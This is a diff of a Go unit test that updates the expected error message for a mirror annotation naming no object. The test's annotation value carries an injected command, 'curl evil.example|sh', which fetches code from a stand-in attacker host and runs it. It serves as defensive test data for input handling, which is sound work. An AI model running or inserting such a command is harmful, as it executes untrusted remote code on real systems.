@@ -39,7 +39,7 @@ func TestExpectNoPlace(t *testing.T) {
 	at.mirrorRef.UID = ""
 	origin.SetAnnotations(map[string]string{delegation.MirrorAnnotation: "worker-1/x; curl evil.example|sh #/train/uid"})
 	err := expect()
-	assert.ErrorContains(t, err, "which names no object, so its mirror may be anywhere")
+	assert.ErrorContains(t, err, "which names no object, so the place of its mirror is unknown")
 	assert.Equal(t, at.mirrorRef.UID, "")
 	for _, part := range command.Prose(err.Error()).Parts() {
 		if part.IsCommand {
